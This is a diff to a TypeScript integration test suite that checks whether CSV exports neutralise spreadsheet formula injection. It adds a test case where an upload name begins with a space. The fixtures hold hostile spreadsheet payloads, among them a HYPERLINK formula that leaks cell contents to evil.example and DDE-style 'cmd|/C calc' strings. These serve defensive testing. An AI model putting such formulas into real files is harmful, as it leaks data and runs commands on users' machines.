@@ -14,6 +14,8 @@ const HOSTILE_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 const HOSTILE_LAYOUT = '@SUM(1+1)*cmd|/C calc!A0';
 const HOSTILE_REASON = '+cmd|"/C calc"!A0, then -2+3';
 const HOSTILE_TAB_SOURCE = '\t=1+1';
+/** An upload's name may start with a blank: Google Sheets and LibreOffice's space trimming would reach the `=`. */
+const HOSTILE_SPACED_SOURCE = ' =HYPERLINK("http://evil.example/?leak="&A1,"Open").csv';
 
 describe('CSV exports against a real Postgres', () => {
   let database: IsolatedDatabase;
@@ -45,8 +47,17 @@ describe('CSV exports against a real Postgres', () => {
         `INSERT INTO ingest_file (file_id, source, layout, records_read, records_published, records_dead_lettered,
                                   blank_lines_skipped, duration_seconds, completed_at)
          VALUES ($1, $2, $3, 2, 2, 0, 0, 0.5, '2024-03-01T00:00:00Z'),
-                ($4, $5, 'billing-csv', 1, 1, 0, 0, 0.1, '2024-03-02T00:00:00Z')`,
-        [FILE_ID, HOSTILE_SOURCE, HOSTILE_LAYOUT, 'd'.repeat(64), HOSTILE_TAB_SOURCE],
+                ($4, $5, 'billing-csv', 1, 1, 0, 0, 0.1, '2024-03-02T00:00:00Z'),
+                ($6, $7, 'billing-csv', 1, 1, 0, 0, 0.1, '2024-03-03T00:00:00Z')`,
+        [
+          FILE_ID,
+          HOSTILE_SOURCE,
+          HOSTILE_LAYOUT,
+          'd'.repeat(64),
+          HOSTILE_TAB_SOURCE,
+          'c'.repeat(64),
+          HOSTILE_SPACED_SOURCE,
+        ],
       );
       await client.query(
         `INSERT INTO ingest_record (file_id, record_number, outcome, stage, error_code)
@@ -99,6 +110,7 @@ describe('CSV exports against a real Postgres', () => {
       'accounted',
     ]);
     expect(rows[2]?.[1]).toBe(`'${HOSTILE_TAB_SOURCE}`);
+    expect(rows.find((row) => row[0] === 'c'.repeat(64))?.[1]).toBe(`'${HOSTILE_SPACED_SOURCE}`);
     // On the wire, the hostile text never begins a cell: it starts with a quote and the neutralising apostrophe.
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`);
   });
